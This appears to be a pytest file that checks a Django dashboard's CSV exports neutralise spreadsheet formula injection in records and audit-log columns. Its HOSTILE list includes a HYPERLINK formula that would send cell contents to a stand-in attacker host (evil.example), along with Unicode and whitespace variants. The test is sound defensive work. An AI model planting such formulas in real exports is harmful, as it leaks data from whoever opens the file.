"""Every export goes through one CSV helper that neutralises spreadsheet formulas."""

from __future__ import annotations

import csv
import io

import pytest

from dashboard.audit.models import AuditEntry
from dashboard.csvexport import _risky_start, safe_cell
from tests.conftest import ALL_DATABASES, TEAM_DOMAIN, add_record, harvest_now

pytestmark = pytest.mark.django_db(databases=ALL_DATABASES)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    '＝HYPERLINK("http://evil.example")',
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u200b=1+1",
]


def test_a_nul_is_replaced_and_a_cell_starting_with_one_is_inert():
    assert safe_cell("\x00=1+1") == "'\ufffd=1+1"
    assert safe_cell("a\x00b") == "a\ufffdb"


def _risky(cell: str) -> bool:
    return _risky_start(cell[0])


def rows_of(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows[1:]:
        for cell in row:
            assert cell == "" or cell.startswith("'") or not _risky(cell), f"live: {cell!r}"


@pytest.mark.parametrize("value", HOSTILE)
def test_the_helper_prefixes_every_formula_start(value):
    assert safe_cell(value) == "'" + value


def test_plain_values_pass_unchanged():
    assert safe_cell("studio-3") == "studio-3" and safe_cell(42) == "42" and safe_cell(None) == ""


def test_records_export_neutralises_every_column(client, viewer, archived):
    for value in HOSTILE:
        add_record(
            app_name=value,
            stream_name=value,
            notify_type=value,
            notify_url=value,
            notify_content=value,
            notify_header=value,
            notify_response=value,
            description=value,
            notify_result="failed",
        )
    harvest_now()
    client.force_login(viewer)
    response = client.get(f"/records/export.csv?domain={TEAM_DOMAIN}&window=1h&status=failed")
    rows = rows_of(response)
    hostile_rows = [r for r in rows if r[2] in {"'" + v for v in HOSTILE}]
    assert len(hostile_rows) == len(HOSTILE)
    assert_inert(rows)


def test_audit_export_neutralises_every_column(client, lead):
    for value in HOSTILE:
        AuditEntry.objects.create(
            actor_name=value,
            domain_name=value,
            kind="record",
            action="update",
            outcome="failed",
            request_id=value,
            error_code=value,
            error_message=value,
            before={"notify_url": value},
        )
    client.force_login(lead)
    rows = rows_of(client.get("/audit/?format=csv"))
    assert len(rows) == len(HOSTILE) + 1
    assert_inert(rows)
